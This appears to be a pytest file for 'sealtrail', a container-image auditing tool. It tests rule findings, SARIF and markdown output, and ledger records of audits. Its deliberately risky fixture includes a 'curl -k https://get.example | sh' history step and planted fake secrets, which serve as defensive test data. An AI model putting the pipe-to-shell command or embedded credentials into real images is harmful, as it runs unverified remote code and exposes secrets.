"""`sealtrail audit image`: images built with umoci, pushed to a real registry, audited over the
OCI API, and the audit sealed as an image.audit event naming the digest."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from sealtrail.dockerfile.image import ImageConfig, audit_image, history_dockerfile
from sealtrail.dockerfile.sources import LAYOUT_REGISTRY, fetch_image
from sealtrail.errors import NotFound, ValidationError
from sealtrail.ledger.log import Ledger
from sealtrail.store.base import Query
from tests.fixtures_registry import ImageBuilder, Registry

SEALTRAIL = shutil.which("sealtrail", path=str(Path(sys.executable).parent)) or "sealtrail"
RISKY = {
    "--config.exposedports": "22/tcp",
    "--config.env": "DB_PASSWORD=hunter2",
    "--history.created_by": "|1 NPM_TOKEN=abc123 /bin/sh -c curl -k https://get.example | sh",
}
CLEAN = {
    "--config.exposedports": "8080/tcp",
    "--config.env": "PATH=/usr/local/bin:/usr/bin",
    "--config.label": "org.opencontainers.image.source=https://example.com/app",
    "--history.created_by": "RUN /bin/sh -c apt-get install -y curl=7.88.1 # buildkit",
}


def _sealtrail(*args: str, cwd: Path, status: int = 0) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SEALTRAIL_")}
    result = subprocess.run(
        [SEALTRAIL, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == status, result.stderr
    return result


def test_a_risky_image_is_found_out_from_its_config_and_history(
    registry: Registry, image_builder: ImageBuilder
) -> None:
    source = image_builder.build("risky", user="0", config=RISKY)
    digest = image_builder.push(source, registry, "team/risky:1")
    fetched = fetch_image(f"{registry.host}/team/risky:1")
    assert fetched.digest == digest
    report = audit_image(fetched.config, "team/risky:1", fetched.digest)
    found = {f.rule_id: f for f in report.findings}
    assert {"DF010", "DF072", "DF050", "DF040", "DF041", "DF053", "DF070"} <= set(found)
    assert found["DF040"].line == 1  # the history step
    assert report.risk == "high"


def test_a_clean_image_keeps_its_strengths(registry: Registry, image_builder: ImageBuilder) -> None:
    source = image_builder.build("clean", user="10001", config=CLEAN)
    image_builder.push(source, registry, "team/clean:1")
    fetched = fetch_image(f"{registry.host}/team/clean:1")
    report = audit_image(fetched.config, "team/clean:1", fetched.digest)
    fired = {f.rule_id for f in report.findings}
    assert not fired & {"DF010", "DF014", "DF050", "DF072", "DF020", "DF075"}
    assert {"non-root", "labels", "no-secrets"} <= {s.id for s in report.strengths}


def test_audit_image_command_records_the_digest_audited(
    tmp_path: Path, registry: Registry, image_builder: ImageBuilder
) -> None:
    digest = image_builder.push(image_builder.build("r", user="0", config=RISKY), registry, "t/r:1")
    _sealtrail("init", "--dir", "data", cwd=tmp_path)
    reference = f"{registry.host}/t/r:1"
    result = _sealtrail(
        "audit", "image", reference, "--dir", "data", "-f", "sarif", "--fail-on", "high",
        cwd=tmp_path, status=1,
    )  # fmt: skip
    sarif = orjson.loads(result.stdout)
    assert {r["ruleId"] for r in sarif["runs"][0]["results"]} >= {"DF010", "DF040"}
    with Ledger.open(tmp_path / "data") as ledger:
        [record] = ledger.query(Query(actions=("image.audit",)))
    event = orjson.loads(record.leaf)
    assert event["target"]["digest"] == digest
    assert event["target"]["registry"] == registry.host
    assert event["target"]["repository"] == "t/r"
    assert event["target"]["tag"] == "1"
    assert event["outcome"] == "failure"
    assert event["details"]["risk"] == "high"


def test_an_oci_layout_is_audited_without_a_registry(image_builder: ImageBuilder) -> None:
    source = image_builder.build("v1", user="0", config=RISKY)
    fetched = fetch_image(source)
    assert fetched.target["registry"] == LAYOUT_REGISTRY
    assert fetched.target["tag"] == "v1"
    assert fetched.digest.startswith("sha256:")
    report = audit_image(fetched.config, fetched.subject, fetched.digest)
    assert {"DF010", "DF040", "DF050"} <= {f.rule_id for f in report.findings}


def test_a_layout_without_the_tag_is_not_found(image_builder: ImageBuilder) -> None:
    source = image_builder.build("v1")
    with pytest.raises(NotFound, match="no image tagged 'v2'"):
        fetch_image(source.rsplit(":", 1)[0] + ":v2")


def test_a_missing_image_is_one_line_on_stderr(tmp_path: Path, registry: Registry) -> None:
    result = _sealtrail(
        "audit", "image", f"{registry.host}/no/such:1", "--no-record", cwd=tmp_path, status=1
    )
    assert result.stderr.startswith("error: ")
    assert len(result.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize(
    ("created_by", "expected"),
    [
        ('/bin/sh -c #(nop)  CMD ["bash"]', 'CMD ["bash"]'),
        ("/bin/sh -c apt-get update", "RUN apt-get update"),
        ("RUN /bin/sh -c npm ci # buildkit", "RUN npm ci"),
        ("|1 TOKEN=x /bin/sh -c make", "ARG TOKEN=x\nRUN make"),
        ("COPY . /app # buildkit", "COPY . /app"),
    ],
)
def test_history_steps_become_instructions(created_by: str, expected: str) -> None:
    text, steps = history_dockerfile([created_by])
    assert text == f"FROM scratch\n{expected}\n"
    assert set(steps.values()) == {1}


def test_config_without_user_runs_as_root() -> None:
    config = ImageConfig.from_json({"config": {}, "history": []})
    assert "DF014" in {f.rule_id for f in audit_image(config, "x", "sha256:0").findings}


def test_image_reports_render_as_sarif_and_markdown() -> None:
    from sealtrail.dockerfile.markdown import to_markdown
    from sealtrail.dockerfile.sarif import to_sarif

    body = {"config": {"User": "0", "ExposedPorts": {"22/tcp": {}}}, "history": []}
    report = audit_image(
        ImageConfig.from_json(body), "registry.example.com/a:1", "sha256:" + "1" * 64
    )
    [run] = to_sarif([report])["runs"]
    for result in run["results"]:
        location = result["locations"][0]["physicalLocation"]
        assert location["artifactLocation"]["uri"] == "registry.example.com/a:1"
        assert "region" not in location
    text = to_markdown(report)
    assert text.startswith("# Image Audit Report: registry.example.com/a:1")
    assert "- **Overall Risk**: HIGH" in text


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"config": []}, "config"),
        ({"config": {"ExposedPorts": ["22/tcp"]}}, "ExposedPorts"),
        ({"config": {"Labels": ["a"]}}, "Labels"),
        ({"config": {"Env": "A=1"}}, "Env"),
        ({"config": {}, "history": {}}, "history"),
    ],
)
def test_a_malformed_config_is_refused_naming_the_field(
    body: dict[str, object], field: str
) -> None:
    with pytest.raises(ValidationError, match=field):
        ImageConfig.from_json(body)
